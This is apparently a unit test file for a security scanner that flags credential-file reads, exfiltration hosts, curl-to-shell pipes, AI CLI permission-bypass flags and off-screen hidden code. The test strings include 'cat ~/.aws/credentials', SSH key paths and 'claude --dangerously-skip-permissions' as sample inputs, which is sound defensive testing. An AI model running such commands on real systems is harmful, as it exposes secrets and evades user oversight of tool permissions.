import { describe, expect, it } from 'vitest';
import { findAiCliAbuse, findNeedle, isPublicIpv4, matchStringRules } from './code-rules.js';
import { scanStringTokens } from './code-tokens.js';
import { scanTextObfuscation } from './code-text.js';

describe('findNeedle', () => {
  it('honours start and end boundaries', () => {
    expect(findNeedle('~/.profile', { text: '.profile', start: true, end: true })).toBe(2);
    expect(findNeedle('user.profile', { text: '.profile', start: true, end: true })).toBe(-1);
    expect(findNeedle('~/.profile.d', { text: '.profile', start: true, end: true })).toBe(-1);
    expect(findNeedle('a/.bashrc b/.bashrc', { text: '.bashrc', start: true, end: true })).toBe(2);
  });
});

describe('findNeedle on host names', () => {
  it('matches a host as the tail of a longer host, never inside a longer label', () => {
    const needle = { text: 'oast.fun', start: true, end: true };
    expect(findNeedle('c0ffee.oast.fun', needle)).toBe(7);
    expect(findNeedle('https://oast.fun/x', needle)).toBe(8);
    expect(findNeedle('toast.fun', needle)).toBe(-1);
    expect(findNeedle('oast.funny', needle)).toBe(-1);
  });
});

describe('isPublicIpv4', () => {
  it('accepts public addresses and rejects private, reserved, resolver and placeholder ones', () => {
    expect(isPublicIpv4(45, 9, 148, 3)).toBe(true);
    // Documentation ranges count as public: shipped code that calls them talks to a raw address.
    expect(isPublicIpv4(203, 0, 113, 7)).toBe(true);
    expect(isPublicIpv4(198, 51, 100, 7)).toBe(true);
    for (const ip of [
      [10, 0, 0, 1],
      [127, 0, 0, 1],
      [192, 168, 1, 1],
      [172, 20, 0, 1],
      [169, 254, 1, 1],
      [0, 0, 0, 0],
      [8, 8, 8, 8],
      [123, 123, 123, 123],
      [999, 1, 1, 1],
    ]) {
      expect([ip.join('.'), isPublicIpv4(ip[0]!, ip[1]!, ip[2]!, ip[3]!)]).toEqual([ip.join('.'), false]);
    }
  });
});

describe('findAiCliAbuse', () => {
  it('needs an AI CLI token and a bypass flag', () => {
    expect(findAiCliAbuse('claude --dangerously-skip-permissions -p x')).toBe(7);
    expect(findAiCliAbuse('/usr/local/bin/q chat --trust-all-tools')).toBe(22);
    expect(findAiCliAbuse('mytool --yolo')).toBe(-1);
    expect(findAiCliAbuse('claude -y')).toBe(-1);
  });
});

describe('matchStringRules', () => {
  it('names the category and offset of each hit, at most one per group', () => {
    expect(matchStringRules('cat ~/.aws/credentials ~/.aws/config')).toEqual([
      {
        category: 'credential-read',
        severity: 'medium',
        what: 'the AWS credentials or config file',
        offset: 6,
      },
    ]);
  });

  it('stays linear on adversarial input', () => {
    const inputs = [
      `curl ${'a'.repeat(200_000)}`,
      `rm ${'-r '.repeat(60_000)}`,
      `powershell ${' '.repeat(100_000)}`,
      `iwr ${'|'.repeat(100_000)}`,
      `http://${'1.'.repeat(50_000)}`,
      `${'.profile'.repeat(20_000)}`,
    ];
    const t0 = performance.now();
    for (const s of inputs) matchStringRules(s);
    expect(performance.now() - t0).toBeLessThan(1000);
  });
});

describe('matchStringRules normalisation', () => {
  it('matches needles in any case, with backslashes and with non-ASCII text around them', () => {
    const whats = (s: string): string[] => matchStringRules(s).map((h) => `${h.what}@${h.offset}`);
    expect(whats('C:\\Users\\Me\\.SSH\\ID_RSA')).toEqual(['an SSH private key (~/.ssh/id_*)@12']);
    expect(whats('~/.AWS/Credentials')).toEqual(['the AWS credentials or config file@2']);
    expect(whats('https://Webhook.Site/x')).toEqual(['a known exfiltration or tunnelling service@8']);
    // U+212A (Kelvin sign) lower-cases to an ASCII k; U+0130 to an i with a combining dot.
    expect(whats('see \u212Aey4.db')).toEqual(['a browser password or cookie store@4']);
    expect(whats('D\u0130scord.com/api/webhooks')).toEqual([]);
    expect(whats('CURL https://x.sh | SH')).toEqual(['a download piped into a shell (curl/wget … | sh)@0']);
    expect(whats('plain text here')).toEqual([]);
  });
});

describe('scanStringTokens', () => {
  it('yields strings outside comments with positions', () => {
    const toks = scanStringTokens('// \'a.b\'\nx = \'one\' /* "two" */ + `th\nree` + "f\\"our";');
    expect(toks.map((t) => [t.value, t.line, t.column])).toEqual([
      ['one', 2, 5],
      ['th\nree', 2, 25],
      ['f\\"our', 3, 8],
    ]);
  });
});

describe('scanTextObfuscation', () => {
  it('finds indentation beyond column 300 on a short line', () => {
    expect(scanTextObfuscation(`a();\n${' '.repeat(320)}b();`)).toEqual([
      { what: 'code hidden off-screen after a long run of whitespace', line: 2, column: 321 },
    ]);
  });
});
